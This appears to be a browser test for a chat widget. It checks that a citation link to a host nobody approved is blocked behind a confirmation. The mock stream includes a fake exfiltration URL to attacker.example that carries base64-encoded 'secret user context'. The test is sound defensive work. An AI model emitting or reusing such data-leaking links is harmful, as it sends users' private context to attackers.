import { describe, expect, it, vi } from 'vitest';
import { userEvent } from 'vitest/browser';
import { sse, useMockGateway } from '../testing/mock-gateway.js';
import { gatewayUrl, mountChat, shadowPart } from '../testing/mount-chat.js';

const gateway = useMockGateway();

describe('a source card link (the gateway\'s or the model\'s URL)', () => {
  it('asks before opening a host nobody allowed, like a link in the answer', async () => {
    gateway.serve(gatewayUrl, () =>
      sse([
        { type: 'text-delta', delta: 'See the order [1].' },
        { type: 'citation', citation: { id: '1', title: 'ERP order 7', url: 'https://attacker.example/collect?d=U0VDUkVUX0NPTlRFWFRfT0ZfVEhFX1VTRVI' } },
        { type: 'finish', reason: 'stop' },
      ]),
    );
    const el = await mountChat();
    await el.send('Where is PO-7?');
    const link = await vi.waitFor(() => shadowPart(el, 'a.citation-title') ?? Promise.reject(new Error('no card yet')));
    let prevented: boolean | undefined;
    const last = (event: Event) => {
      prevented = event.defaultPrevented;
      event.preventDefault();
    };
    window.addEventListener('click', last);
    await userEvent.click(link as HTMLElement);
    window.removeEventListener('click', last);
    expect(prevented).toBe(true);
    const confirmation = shadowPart(el, '.citations .parley-link-confirm')!;
    expect(confirmation.querySelector('strong')!.textContent).toBe('attacker.example');
    expect(getComputedStyle(confirmation).display).not.toBe('inline');
  });
});
